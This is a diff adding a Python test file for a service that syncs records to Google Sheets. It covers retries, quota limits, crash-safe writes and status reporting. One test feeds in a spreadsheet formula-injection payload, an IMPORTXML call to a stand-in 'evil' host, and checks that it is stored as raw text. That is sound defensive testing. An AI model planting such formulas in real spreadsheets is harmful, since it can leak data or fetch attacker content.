@@ -1,0 +1,161 @@
+"""Sheets sync with the real gspread client against the local Sheets v4 server."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy.engine import Engine
+from sqlmodel import Session, select
+
+from services.common.config import Settings
+from services.moments import service
+from services.moments.api import create_app
+from services.moments.models import MomentCreate, MomentUpdate, SheetOutbox
+from services.moments.sheets import HEADER, SheetSyncer, WriteQuota
+from tests.factories_moments import moment
+from tests.support.sheets_server import SheetsServer
+
+
+def log(engine: Engine, n: int, **overrides: object) -> list[str]:
+    ids = []
+    with Session(engine) as session:
+        for _ in range(n):
+            ids.append(
+                service.create(
+                    session, data=MomentCreate.model_validate(moment(**overrides)), actor="maria"
+                ).id
+            )
+    return ids
+
+
+def drain(syncer: SheetSyncer, rounds: int = 50) -> None:
+    for _ in range(rounds):
+        result = syncer.sync_once()
+        if not (result.appended or result.updated or result.error):
+            return
+
+
+def backlog(engine: Engine) -> int:
+    with Session(engine) as session:
+        return len(session.exec(select(SheetOutbox)).all())
+
+
+def test_moments_reach_the_sheet_once_with_raw_input(
+    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
+) -> None:
+    ids = log(engine, 30, change='=IMPORTXML("http://evil", "//a")')
+    syncer = SheetSyncer(engine, sheet_settings, batch_size=20)
+    drain(syncer)
+    assert sheets_server.sheet.rows[0] == HEADER
+    assert sorted(sheets_server.ids()) == sorted(ids)
+    assert set(sheets_server.sheet.input_options) == {"RAW"}
+    assert sheets_server.sheet.rows[1][6].startswith(
+        "=IMPORTXML"
+    )  # stored as text, never evaluated
+    assert backlog(engine) == 0
+    drain(syncer)  # nothing new: nothing written
+    assert sheets_server.sheet.appended_rows == 30
+
+
+def test_edits_update_the_row_and_deletes_mark_it(
+    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
+) -> None:
+    [moment_id] = log(engine, 1)
+    syncer = SheetSyncer(engine, sheet_settings)
+    drain(syncer)
+    with Session(engine) as session:
+        m = service.get(session, moment_id)
+        assert m is not None
+        service.update(
+            session, moment=m, data=MomentUpdate(change="Now an advocate."), actor="maria"
+        )
+        service.delete(session, moment=m, actor="maria")
+    drain(syncer)
+    assert sheets_server.ids() == [moment_id]
+    row = sheets_server.sheet.rows[1]
+    assert row[6] == "Now an advocate." and row[-1] == "deleted"
+
+
+def test_crash_after_the_write_never_duplicates(
+    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
+) -> None:
+    log(engine, 5)
+    syncer = SheetSyncer(engine, sheet_settings)
+    with Session(engine) as session:
+        from services.moments.models import Moment
+
+        syncer._write(list(session.exec(select(Moment)).all()))  # written, outbox not yet cleared
+    assert backlog(engine) == 5
+    drain(SheetSyncer(engine, sheet_settings))  # a restarted worker
+    assert len(sheets_server.ids()) == 5
+    assert sheets_server.sheet.appended_rows == 5
+    assert backlog(engine) == 0
+
+
+def test_failures_back_off_and_everything_lands_exactly_once(
+    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
+) -> None:
+    ids = log(engine, 40)
+    sheets_server.faults.status_429 = 2
+    sheets_server.faults.status_500 = 2
+    sheets_server.faults.drop = 1
+    syncer = SheetSyncer(engine, sheet_settings, batch_size=15)
+    errors = []
+    deadline = time.monotonic() + 60
+    while backlog(engine) and time.monotonic() < deadline:
+        result = syncer.sync_once()
+        if result.error:
+            errors.append(result.error.split(":")[0])
+            with Session(engine) as session:  # skip the real backoff wait in the test
+                for row in session.exec(select(SheetOutbox)).all():
+                    row.next_attempt_at = row.enqueued_at
+                    session.add(row)
+                session.commit()
+    assert sorted(sheets_server.ids()) == sorted(ids)
+    assert sheets_server.sheet.appended_rows == 40
+    assert {"quota", "server", "connection"} <= set(errors)
+
+
+def test_quota_window_holds_writes() -> None:
+    quota = WriteQuota(per_minute=3)
+    started = time.monotonic()
+    for _ in range(3):
+        quota.acquire()
+    assert time.monotonic() - started < 1
+    quota._sent[0] -= 59.5  # the oldest write leaves the window in half a second
+    quota.acquire()
+    assert 0.3 < time.monotonic() - started < 2
+
+
+def test_status_shows_in_api_and_pages(
+    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
+) -> None:
+    sheets_server.faults.status_500 = 100
+    with TestClient(create_app(sheet_settings, engine=engine, sync_sheets=False)) as client:
+        headers = {"Authorization": "Bearer test-admin-token"}
+        created = client.post("/api/v1/moments", json=moment(), headers=headers).json()
+        assert created["sheet_sync"]["state"] == "pending"
+        SheetSyncer(engine, sheet_settings).sync_once()
+        again = client.get(f"/api/v1/moments/{created['id']}", headers=headers).json()
+        assert again["sheet_sync"]["state"] == "pending"
+        assert again["sheet_sync"]["attempts"] == 1
+        assert again["sheet_sync"]["error"].startswith("server")
+
+
+@pytest.mark.parametrize("count", [1, 7])
+def test_background_worker_in_the_service(
+    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer, count: int
+) -> None:
+    with TestClient(create_app(sheet_settings, engine=engine)) as client:
+        for _ in range(count):
+            client.post(
+                "/api/v1/moments",
+                json=moment(),
+                headers={"Authorization": "Bearer test-admin-token"},
+            )
+        deadline = time.monotonic() + 20
+        while len(sheets_server.ids()) < count and time.monotonic() < deadline:
+            time.sleep(0.1)
+    assert len(sheets_server.ids()) == count
